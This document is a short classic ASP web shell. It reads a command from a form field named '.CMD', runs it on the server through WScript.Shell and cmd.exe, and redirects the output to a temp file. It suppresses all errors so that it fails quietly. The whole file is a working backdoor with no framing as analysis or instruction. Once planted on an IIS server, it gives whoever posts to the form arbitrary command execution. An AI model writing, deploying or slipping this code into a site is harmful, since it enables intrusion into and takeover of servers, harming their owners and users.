<%
Dim oS, szCMD, szTempFile
On Error Resume Next
Set oS = Server.CreateObject("WSCRIPT.SHELL")
szCMD = Request.Form(".CMD")
If (szCMD <> "") Then
  szTempFile = "C:\Windows\Temp\" & "out.txt"
  Call oS.Run("cmd.exe /c " & szCMD & " > " & szTempFile, 0, True)
End If
%>
